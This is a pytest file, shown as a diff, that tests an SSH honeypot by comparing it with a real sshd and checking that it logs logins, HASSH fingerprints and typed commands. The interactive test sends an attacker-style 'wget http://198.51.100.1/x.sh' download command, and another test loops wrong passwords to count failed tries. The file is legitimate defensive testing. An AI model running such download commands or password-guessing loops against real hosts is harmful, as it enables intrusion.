@@ -1,0 +1,287 @@
+"""The SSH honeypot against real clients: the OpenSSH client forced to each algorithm, paramiko, asyncssh,
+and a real Debian sshd started by the test for side-by-side fingerprint and probe comparison."""
+import hashlib
+import re
+import os
+import shutil
+import socket
+import subprocess
+import time
+
+import pytest
+
+from conftest import Sensor, wait_for
+
+CONFIG = """
+sensor:
+  name: ssh-test
+honeypots:
+  trap:
+    enabled: false
+  ssh:
+    tcp_ports: [2222]
+    hostname: web01
+    auth_rules: ["root:123456", "admin:!admin", "*:!*"]
+    accept_after: 0
+"""
+
+# Algorithms OpenSSH 9.2 offers that this build does not implement yet (their own work items); the
+# fingerprint comparison expects exactly the real sshd's lists minus these, in the same order.
+NOT_YET = {"sntrup761x25519-sha512", "sntrup761x25519-sha512@openssh.com", "chacha20-poly1305@openssh.com",
+           "umac-64-etm@openssh.com", "umac-128-etm@openssh.com", "umac-64@openssh.com", "umac-128@openssh.com",
+           "zlib@openssh.com"}
+
+KEX = ["curve25519-sha256", "curve25519-sha256@libssh.org", "ecdh-sha2-nistp256", "ecdh-sha2-nistp384",
+       "ecdh-sha2-nistp521", "diffie-hellman-group-exchange-sha256", "diffie-hellman-group16-sha512",
+       "diffie-hellman-group18-sha512", "diffie-hellman-group14-sha256"]
+CIPHERS = ["aes128-ctr", "aes192-ctr", "aes256-ctr", "aes128-gcm@openssh.com", "aes256-gcm@openssh.com"]
+MACS = ["hmac-sha2-256-etm@openssh.com", "hmac-sha2-512-etm@openssh.com", "hmac-sha1-etm@openssh.com",
+        "hmac-sha2-256", "hmac-sha2-512", "hmac-sha1"]
+HOSTKEYS = ["rsa-sha2-512", "rsa-sha2-256", "ecdsa-sha2-nistp256", "ssh-ed25519"]
+
+
+@pytest.fixture(scope="module")
+def honeypot(tmp_path_factory):
+    from conftest import free_port_base
+    tmp = tmp_path_factory.mktemp("ssh")
+    s = Sensor(tmp, CONFIG, free_port_base(), worker="ssh").start()
+    yield s
+    s.stop()
+
+
+def ssh(port, password, *options, user="root", command="uname -a", timeout=60):
+    args = ["sshpass", "-p", password, "ssh", "-p", str(port), "-o", "StrictHostKeyChecking=no",
+            "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR", "-o", "ConnectTimeout=10",
+            "-o", "PubkeyAuthentication=no", "-o", "NumberOfPasswordPrompts=1", *options, f"{user}@127.0.0.1", command]
+    return subprocess.run(args, capture_output=True, text=True, timeout=timeout)
+
+
+def logins(sensor, kind, user, password):
+    return [e for e in sensor.events(event=kind) if e.get("username") == user and e.get("password") == password]
+
+
+@pytest.mark.parametrize("option,value", [("KexAlgorithms", k) for k in KEX] + [("Ciphers", c) for c in CIPHERS]
+                         + [("MACs", m) for m in MACS] + [("HostKeyAlgorithms", h) for h in HOSTKEYS])
+def test_openssh_client_with_each_algorithm(honeypot, option, value):
+    port = 2222 + honeypot.offset
+    options = ["-o", f"{option}={value}"]
+    if option == "MACs":
+        options += ["-o", "Ciphers=aes128-ctr"]  # MACs only apply to non-AEAD ciphers
+    r = ssh(port, "123456", *options, command=f"echo {value}")
+    assert r.returncode == 127, r.stderr
+    assert r.stderr == f"bash: line 1: echo: command not found\n"
+    assert wait_for(lambda: [e for e in honeypot.events(event="command.input") if e.get("input") == f"echo {value}"], 10)
+
+
+def test_wrong_password_is_refused_and_captured(honeypot):
+    port = 2222 + honeypot.offset
+    r = ssh(port, "hunter2-wrong")
+    assert r.returncode == 255 and "Permission denied" in r.stderr
+    assert wait_for(lambda: logins(honeypot, "login.failed", "root", "hunter2-wrong"), 10)
+    ok = ssh(port, "123456")
+    assert ok.returncode == 127
+    e = wait_for(lambda: logins(honeypot, "login.success", "root", "123456"), 10)[0]
+    assert e["protocol"] == "ssh" and e["src_ip"] == "127.0.0.1" and len(e["session"]) == 12
+
+
+def test_client_version_and_hassh_events(honeypot):
+    port = 2222 + honeypot.offset
+    ssh(port, "123456", "-o", "KexAlgorithms=curve25519-sha256", "-o", "Ciphers=aes256-ctr", "-o", "MACs=hmac-sha2-512",
+        command="true")
+    kex = wait_for(lambda: [e for e in honeypot.events(event="ssh.client.kex")
+                            if e["hassh_algorithms"].startswith("curve25519-sha256,")], 10)
+    assert kex
+    algos = kex[-1]["hassh_algorithms"]
+    assert algos.split(";")[1:] == ["aes256-ctr", "hmac-sha2-512", "none,zlib@openssh.com,zlib"]
+    assert kex[-1]["hassh"] == hashlib.md5(algos.encode()).hexdigest()
+    versions = honeypot.events(event="ssh.client.version")
+    assert any(v["client_version"].startswith("SSH-2.0-OpenSSH_9.2p1") for v in versions)
+
+
+def test_paramiko_password_exec_and_max_auth_tries(honeypot):
+    paramiko = pytest.importorskip("paramiko")
+    port = 2222 + honeypot.offset
+    c = paramiko.SSHClient()
+    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
+    c.connect("127.0.0.1", port=port, username="root", password="123456", allow_agent=False, look_for_keys=False, timeout=10)
+    _, out, err = c.exec_command("cat /etc/passwd")
+    assert err.read() == b"bash: line 1: cat: command not found\n"
+    assert out.channel.recv_exit_status() == 127
+    c.close()
+    # Wrong passwords on one connection until OpenSSH's MaxAuthTries (6) ends it.
+    assert failures_until_disconnect(paramiko, port) == 6
+    assert wait_for(lambda: len([e for e in honeypot.events(event="login.failed") if e.get("username") == "admin"]) >= 6, 10)
+
+
+def failures_until_disconnect(paramiko, port):
+    t = paramiko.Transport(("127.0.0.1", port))
+    t.start_client(timeout=10)
+    failures = 0
+    try:
+        for i in range(10):
+            try:
+                t.auth_password("admin", f"wrong{i}")
+            except paramiko.AuthenticationException:
+                failures += 1
+    except (paramiko.SSHException, EOFError, OSError):
+        pass
+    t.close()
+    return failures
+
+
+def test_max_auth_tries_like_real_sshd(honeypot, real_sshd):
+    paramiko = pytest.importorskip("paramiko")
+    assert failures_until_disconnect(paramiko, 2222 + honeypot.offset) == failures_until_disconnect(paramiko, real_sshd)
+
+
+def test_asyncssh_login(honeypot):
+    asyncssh = pytest.importorskip("asyncssh")
+    import asyncio
+
+    async def run():
+        async with asyncssh.connect("127.0.0.1", port=2222 + honeypot.offset, username="root", password="123456",
+                                    known_hosts=None) as conn:
+            return await conn.run("id", check=False)
+
+    result = asyncio.run(asyncio.wait_for(run(), 30))
+    assert result.exit_status == 127
+    assert result.stderr == "bash: line 1: id: command not found\n"
+
+
+def test_interactive_shell_prompt(honeypot):
+    paramiko = pytest.importorskip("paramiko")
+    c = paramiko.SSHClient()
+    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
+    c.connect("127.0.0.1", port=2222 + honeypot.offset, username="root", password="123456", allow_agent=False,
+              look_for_keys=False, timeout=10)
+    ch = c.invoke_shell(term="xterm", width=120, height=40)
+    buf = b""
+    deadline = time.time() + 10
+    while b"root@web01:~# " not in buf and time.time() < deadline:
+        buf += ch.recv(4096)
+    ch.send(b"wget http://198.51.100.1/x.sh\r")
+    while b"command not found" not in buf and time.time() < deadline:
+        buf += ch.recv(4096)
+    assert b"-bash: wget: command not found\r\n" in buf
+    ch.send(b"exit\r")
+    c.close()
+    e = wait_for(lambda: [x for x in honeypot.events(event="command.input") if x.get("input") == "wget http://198.51.100.1/x.sh"], 10)
+    assert e and e[0]["honeypot"] == "ssh"
+
+
+# --- side by side with a real sshd -------------------------------------------------------------------
+
+@pytest.fixture(scope="module")
+def real_sshd(tmp_path_factory):
+    sshd = "/usr/sbin/sshd"
+    if not os.path.exists(sshd) or os.geteuid() != 0:
+        pytest.skip("needs root and Debian's openssh-server")
+    tmp = tmp_path_factory.mktemp("sshd")
+    for t in ("rsa", "ecdsa", "ed25519"):
+        subprocess.run(["ssh-keygen", "-q", "-t", t, "-N", "", "-f", str(tmp / f"host_{t}")], check=True)
+    os.makedirs("/run/sshd", exist_ok=True)
+    s = socket.socket()
+    s.bind(("127.0.0.1", 0))
+    port = s.getsockname()[1]
+    s.close()
+    config = "/etc/ssh/sshd_config" if os.path.exists("/etc/ssh/sshd_config") else "/dev/null"
+    args = [sshd, "-D", "-e", "-f", config, "-p", str(port), "-o", "ListenAddress=127.0.0.1", "-o", "PidFile=none"]
+    for t in ("rsa", "ecdsa", "ed25519"):
+        args += ["-h", str(tmp / f"host_{t}")]
+    proc = subprocess.Popen(args, stderr=subprocess.DEVNULL)
+    assert wait_for(lambda: _port_open(port), 10)
+    yield port
+    proc.terminate()
+    proc.wait()
+
+
+def _port_open(port):
+    try:
+        socket.create_connection(("127.0.0.1", port), timeout=1).close()
+        return True
+    except OSError:
+        return False
+
+
+def probe(port, payload, wait=1.0):
+    s = socket.create_connection(("127.0.0.1", port), timeout=5)
+    s.settimeout(0.3)
+    banner = b""
+    try:
+        banner = s.recv(1000)
+    except socket.timeout:
+        pass
+    s.sendall(payload)
+    out = b""
+    deadline = time.time() + wait
+    while time.time() < deadline:
+        try:
+            d = s.recv(65536)
+            if not d:
+                out += b"<close>"
+                break
+            out += d
+        except socket.timeout:
+            pass
+        except ConnectionResetError:
+            out += b"<close>"
+            break
+    s.close()
+    return banner, out
+
+
+@pytest.mark.parametrize("payload", [b"GET / HTTP/1.0\r\n\r\n", b"SSH-1.5-Nmap\r\n", b"SSH-3.0-x\r\n",
+                                     b"\x00\x01\x02garbage\r\n", b"SSH-2.0-x\r\n" + b"\x7f\xff\xff\xff" + b"\x00" * 28])
+def test_probes_get_the_same_reply_as_real_sshd(honeypot, real_sshd, payload):
+    real = probe(real_sshd, payload)
+    ours = probe(2222 + honeypot.offset, payload)
+    assert ours[0] == real[0], "banner"
+    if payload.startswith(b"SSH-2.0"):
+        # Both send KEXINIT (random cookie) then close on the bad length: compare the shape.
+        assert real[1].endswith(b"<close>") and ours[1].endswith(b"<close>")
+        assert ours[1][5] == 20 and real[1][5] == 20
+    else:
+        assert ours[1] == real[1]
+
+
+def kexinit_lists(port):
+    s = socket.create_connection(("127.0.0.1", port), timeout=5)
+    s.recv(1000)
+    s.sendall(b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u10\r\n")
+    data = b""
+    while len(data) < 5 or len(data) < int.from_bytes(data[:4], "big") + 4:
+        data += s.recv(65536)
+    s.close()
+    payload = data[5:4 + int.from_bytes(data[:4], "big") - data[4]]
+    p, lists = payload[17:], []
+    for _ in range(10):
+        n = int.from_bytes(p[:4], "big")
+        lists.append(p[4:4 + n].decode().split(",") if n else [])
+        p = p[4 + n:]
+    return lists
+
+
+def test_kexinit_lists_match_real_sshd_in_order(honeypot, real_sshd):
+    real = kexinit_lists(real_sshd)
+    ours = kexinit_lists(2222 + honeypot.offset)
+    expected = [[a for a in lst if a not in NOT_YET] for lst in real]
+    assert ours == expected
+
+
+def test_nmap_ssh2_enum_algos_matches_real_sshd(honeypot, real_sshd):
+    if not shutil.which("nmap"):
+        pytest.skip("nmap not installed")
+
+    def enum(port):
+        out = subprocess.run(["nmap", "-Pn", "-n", "-sV", "--script", "ssh2-enum-algos,ssh-hostkey", "-p", str(port), "127.0.0.1"],
+                             capture_output=True, text=True, timeout=120).stdout
+        return out
+
+    real = enum(real_sshd)
+    ours = enum(2222 + honeypot.offset)
+    # Same product/version identification.
+    assert "OpenSSH 9.2p1 Debian 2+deb12u10" in real
+    assert "OpenSSH 9.2p1 Debian 2+deb12u10" in ours
+    def algos(text):
+        return [m.group(1) for m in (re.match(r"^\|_?\s{6,}(\S+)", l) for l in text.splitlines()) if m]
+    assert [a for a in algos(ours)] == [a for a in algos(real) if a not in NOT_YET]
